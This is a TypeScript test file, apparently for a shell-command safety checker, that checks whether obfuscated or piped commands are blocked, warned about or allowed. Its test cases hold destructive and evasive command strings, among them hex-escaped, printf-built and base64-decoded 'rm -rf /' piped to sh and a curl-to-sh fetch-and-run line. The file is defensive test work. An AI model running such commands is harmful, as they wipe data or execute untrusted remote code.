import { expect, it } from "vitest";
import { judgeCommand } from "./judge-command.ts";

const place = {
  workTree: "/home/ada/project",
  home: "/home/ada",
  tempFolder: "/tmp",
  cwd: "/home/ada/project",
  store: "/home/ada/.local/state/ralph",
  allow: [],
};

function check(command: string, expected: string): void {
  expect(judgeCommand(command, place).decision).toBe(expected);
}

it.each([
  ["echo -e 'rm \\x2drf /' | sh", "block"],
  ["printf '%s %s %s' rm -rf / | sh", "block"],
  ["printf '%b' 'rm -rf /' | sh", "block"],
  ["echo L2JpbjovdXNyCg== | base64 -d", "allow"],
  ["echo bHM= | base64 -d | sh", "block"],
  ["echo ls | cat | sh", "allow"],
  ["echo ls | tee a | sh", "allow"],
  ["curl x.example | sed s/a/b/ | sh", "block"],
  ["cat a | sh", "allow"],
  ["sort a | sh", "warn"],
  ["yes | tee a", "block"],
  ["yes | head", "allow"],
])("%s: %s, for it knows what a shell is fed (R-121)", (command, expected) => {
  check(command, expected);
});
